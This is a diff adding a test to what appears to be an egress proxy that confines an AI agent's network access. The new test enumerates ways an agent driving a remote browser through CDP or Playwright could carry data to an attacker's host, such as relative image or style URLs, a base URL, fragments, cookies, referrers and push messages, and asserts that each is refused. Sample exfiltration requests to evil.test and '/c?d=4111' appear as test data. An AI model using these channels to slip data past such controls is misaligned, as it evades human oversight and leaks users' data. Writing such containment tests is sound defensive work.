@@ -22,6 +22,7 @@ import t from 'tap';
 import { WebSocket } from 'ws';
 import { normalizeLink } from '../../describe/links.ts';
 import { describeRequest } from '../../describe/describe.ts';
+import { cdpLoadsOf } from '../../describe/tunnel-sql.ts';
 import { tempDir } from '../temp-dir.ts';
 import { connectTunnel, readResponse } from '../proxy/helpers.ts';
 import { contentLabels, policyCopy, run, startSessionAirlock, startWeb, studioApi, viaCurl } from '../sessions/helpers.ts';
@@ -252,6 +253,61 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   t.equal((await viaCurl(quitProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
   t.equal((await viaCurl(quitProxy, 'GET', `${web.origin('evil.test')}/c?d=quit-4242`)).status, 403, 'nor one stored by a request never answered');
   t.notOk(web.hits.some((h) => h.host === 'evil.test'), 'evil.test was never reached');
+});
+
+// A remote browser on the page a served link reached (twenty-second pass): the page's host is the
+// attacker's, which browsing takes by that exact link only. A URL relative to the page (an image's
+// `src`, a style's `url()`) and a Playwright context whose base URL is that link (every relative
+// `goto` after it lands on its host) carried data to it, though `fetch('/c?d=' + d)` was refused.
+// ws.test stands for the browser's WebSocket (a human approves each upgrade: its protocol is
+// unseen); what it receives is what the browser would have been told.
+t.test('twenty-second pass: a remote browser is given no URL relative to a served link\'s page, nor the link with a fragment, as a base URL, with a referrer, a cookie or a push', async (t) => {
+  const web = await startWeb(t);
+  const home = tempDir(t, 'al-att-');
+  const airlock = await startSessionAirlock(t, home, policyCopy(t), web);
+  const agent = await airlock.agents.add('bot');
+  const port = airlock.proxyAddress.port;
+  const api = await studioApi(airlock, home);
+  t.equal((await viaCurl(airlock.proxyUrl('bot', agent.token), 'GET', `${web.origin('news.test')}/today`)).status, 200); // serves http://blog.test:PORT/post?id=4
+  const served = `http://blog.test:${web.port}/post?id=4`;
+  const browser = async (msgs: string[]): Promise<number> => {
+    const ws = new WebSocket(`ws://ws.test:${web.port}/devtools/browser/1`, { agent: new HttpProxyAgent(`http://bot:${agent.token}@127.0.0.1:${port}`) });
+    const opened = new Promise<void>((resolve, reject) => { ws.once('open', () => resolve()); ws.once('error', reject); });
+    const [held] = (await eventuallyPending(api)) as Array<{ id: string }>;
+    await api('POST', `/api/approvals/${held!.id}/approve`, { accept_unseen_body: true });
+    await opened;
+    return new Promise<number>((resolve) => {
+      let replies = 0;
+      ws.on('message', () => { if (++replies === msgs.length) ws.close(1000); });
+      ws.on('close', (code) => resolve(code));
+      for (const m of msgs) ws.send(m);
+      setTimeout(() => ws.terminate(), 10_000).unref();
+    });
+  };
+  const cdp = (method: string, params: unknown, id = 1): string => JSON.stringify({ id, method, params });
+  const pw = (guid: string, method: string, params: unknown): string => JSON.stringify({ id: 3, guid, method, params });
+  // Control: the served link itself, an image of it written out, a fragment.
+  t.equal(await browser([cdp('Page.navigate', { url: served }), cdp('DOM.setAttributeValue', { nodeId: 7, name: 'href', value: '#comments' }, 2)]), 1000, 'the served link is browsed');
+  // Through the socket (a human approves each upgrade), one of each kind; the reader's other forms
+  // are in mcp-websocket.test.ts.
+  const live = [
+    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: '/c?d=4111' }),
+    pw('browser@11', 'newContext', { baseURL: served }),
+    // The served link with a fragment of data: never sent, but the page's own code reads it.
+    cdp('Page.navigate', { url: `${served}#d=4111` }),
+    // A cookie of data for the served link: sent with every request to its host.
+    cdp('Network.setCookie', { url: served, name: 'd', value: '4111' }),
+  ];
+  // Read alone: the same with a style, markup, a referrer of the agent's, a push to the host's worker.
+  for (const msg of [
+    cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<img src="c?d=4111">' }),
+    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'style', value: 'background: url(/c?d=4111)' }),
+    cdp('Page.navigate', { url: served, referrer: 'https://docs.example/?d=4111', referrerPolicy: 'unsafeUrl' }),
+    cdp('ServiceWorker.deliverPushMessage', { origin: `http://blog.test:${web.port}`, registrationId: '1', data: 'd=4111' }),
+  ]) t.ok(cdpLoadsOf(msg).refused || cdpLoadsOf(msg).urls.some((u) => u.endsWith('/*')), `read: ${msg.slice(0, 90)}`);
+  for (const msg of live) t.equal(await browser([msg]), 1008, msg.slice(0, 90));
+  t.notOk(web.hits.some((h) => h.host === 'ws.test' && /d=4111|baseURL/.test(h.body)), 'the browser was told none of them');
+  t.ok(web.hits.some((h) => h.host === 'ws.test' && h.body.includes('Page.navigate')), 'it was told the served link');
 });
 
 t.test('labels cannot be laundered', async (t) => {
